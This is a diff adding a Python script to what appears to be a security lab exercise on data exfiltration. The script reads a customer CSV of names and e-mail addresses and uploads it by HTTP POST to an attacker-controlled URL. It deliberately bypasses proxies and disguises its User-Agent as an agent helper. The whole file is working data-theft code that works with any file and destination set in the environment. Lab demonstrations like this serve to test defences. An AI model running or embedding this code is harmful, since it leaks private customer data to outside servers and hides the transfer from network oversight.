@@ -1,0 +1,57 @@
+# lab:title: Upload the customer data to an attacker
+# lab:threat: exfil
+# lab:layer: network
+# lab:consequence: The customer list, names and e-mails included, is on the attacker's server: a data breach you may have to disclose to every customer.
+"""Data exfiltration: ship private data to a server the attacker controls.
+
+Reads the sales CSV (LAB_DATA), which holds customer names and e-mail
+addresses, and POSTs the whole file to the attacker's URL (LAB_ATTACKER) with
+nothing but urllib from the standard library. Proxy settings are ignored on
+purpose: the upload goes straight to the attacker, as injected code would.
+Prints the HTTP status if the upload went through, or the error as raised.
+"""
+import os
+import sys
+import urllib.error
+import urllib.request
+
+
+def main():
+    data_path = os.environ.get("LAB_DATA")
+    url = os.environ.get("LAB_ATTACKER")
+    if not data_path or not url:
+        print("LAB_DATA or LAB_ATTACKER is not set: nothing to steal or "
+              "nowhere to send it", flush=True)
+        return 1
+    try:
+        with open(data_path, "rb") as f:
+            body = f.read(1024 * 1024)
+    except OSError as e:
+        print(f"cannot read the data: {e}", flush=True)
+        return 1
+    print(f"read {len(body)} bytes of customer data from {data_path}",
+          flush=True)
+    print(f"POST {url} (Content-Type: text/csv)", flush=True)
+
+    req = urllib.request.Request(
+        url, data=body, method="POST",
+        headers={"Content-Type": "text/csv", "User-Agent": "agent-helper/1.0"})
+    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+    try:
+        with direct.open(req, timeout=3) as resp:
+            resp.read(4096)
+            print(f"upload accepted: HTTP {resp.status} {resp.reason}",
+                  flush=True)
+            return 0
+    except urllib.error.HTTPError as e:
+        # The server answered, so the bytes already reached it.
+        print(f"server answered HTTP {e.code} {e.reason} "
+              f"(the data was already sent)", flush=True)
+        return 0
+    except Exception as e:  # URLError, timeout, reset, ...
+        print(f"upload failed: {e}", flush=True)
+        return 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())
